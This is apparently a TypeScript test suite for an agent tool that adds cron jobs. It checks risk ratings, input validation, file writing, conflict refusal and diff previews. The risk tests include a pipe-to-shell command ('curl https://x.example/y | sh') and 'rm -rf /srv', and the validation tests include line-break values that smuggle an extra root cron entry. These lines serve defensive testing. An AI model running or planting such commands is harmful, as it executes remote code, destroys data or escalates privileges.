import { afterEach, describe, expect, test } from "bun:test";
import { testWhere } from "../../../test/support/skip.ts";
import { forHtml } from "../../domain/untrusted.ts";
import type { Scripted } from "../../../test/support/scripted-context.ts";
import { realFiles, refusal } from "../file/testing/real.ts";
import { toolNamed } from "../index.ts";
import type { AddInput } from "./add.ts";
import { preview, run } from "./add.run.ts";

const onLinux = testWhere(process.platform === "linux", "Linux");
const tool = toolNamed("cron.add");
let files = realFiles();
afterEach(() => {
  files.end();
  files = realFiles();
});
const job: AddInput = { name: "clean", schedule: "*/5 * * * *", command: "date +%F > /tmp/x" };
const user: Scripted = [/^getent passwd /, {}];
const place = (runs = true) => ({ file: (name: string) => files.path(`ailx-${name}`), cronRuns: () => runs });
const add = (input = job, script: Scripted[] = [user], at = place()) =>
  files.call((ctx) => run(input, ctx, at), script);

describe("cron.add", () => {
  test("is high, and what its command is where that is worse", () => {
    const rated = (command: string, as?: string) => {
      const input = { ...job, command, ...(as === undefined ? {} : { user: as }) };
      return [tool.risk(input).risk, tool.level(input)];
    };
    expect(rated("echo hello", "www-data")).toEqual(["high", 3]);
    expect(rated("rm -rf /srv", "www-data")[0]).toBe("critical");
    expect(rated("curl https://x.example/y | sh")[0]).toBe("critical");
    expect(tool.risk({ ...job, command: "userdel bob" }).reasons.join("; ")).toContain("its command ");
  });

  test("takes one line, a time that cron knows and a name that cron reads", () => {
    const takes = (more: object): boolean => tool.input().safeParse({ ...job, ...more }).success;
    for (const schedule of ["@daily", "0 4 1-15/2 jan mon-fri", "*/10 0,12 * * *"])
      expect(takes({ schedule }), schedule).toBe(true);
    for (const schedule of [
      "",
      "* * * *",
      "60 * * * *",
      "@often",
      "* * * * * root",
      "* * * * *\n",
      " * * * * *",
      "a b c d e",
    ])
      expect(takes({ schedule }), schedule).toBe(false);
    for (const command of ["", "a\nb", "a\rb", "a\0b", "a\u2028* * * * * root b"])
      expect(takes({ command }), command).toBe(false);
    for (const name of ["", "a.b", "../x", "A", "-x", "a b"]) expect(takes({ name }), name).toBe(false);
    for (const as of ["root x", "-u", "a:b", ""]) expect(takes({ user: as }), as).toBe(false);
  });

  onLinux("writes a file that cron takes, with its percent signs as they are meant", async () => {
    const output = await add();
    expect(files.read("ailx-clean")).toContain("\n*/5 * * * * root date +\\%F > /tmp/x\n");
    expect([files.mode("ailx-clean"), tool.judge(job, output).kind]).toEqual([0o644, "ok"]);
    const back = tool.wayBack?.(job, output);
    expect(back).toMatchObject({ kind: "tool", tool: "file.restore" });
    await files.backups.portFor({ task: "t", step: "s1", callId: "c" }).restore();
    expect(files.names()).toEqual([]);
  });

  onLinux("replaces no job unless that is said", async () => {
    files.write("ailx-clean", "mine\n");
    expect(await refusal(add())).toMatchObject({ code: "conflict" });
    expect(files.read("ailx-clean")).toBe("mine\n");
    await add({ ...job, replace: true });
    expect(files.read("ailx-clean")).toContain("date");
  });

  onLinux("changes nothing where no cron runs, or its user is not there", async () => {
    expect(await refusal(add(job, [], place(false)))).toMatchObject({ code: "wrong_state" });
    expect(await refusal(add(job, [[/^getent/, { exitCode: 2 }]]))).toMatchObject({ code: "bad_input" });
    expect(files.names()).toEqual([]);
  });

  onLinux("shows the file before", async () => {
    const shown = await files.call((ctx) => preview(job, ctx, place()), [user]);
    expect(shown.files.map(({ kind, diff }) => [kind, diff && forHtml(diff).includes("+*/5 * * * * root")])).toEqual([
      ["created", true],
    ]);
    expect(files.names()).toEqual([]);
  });
});
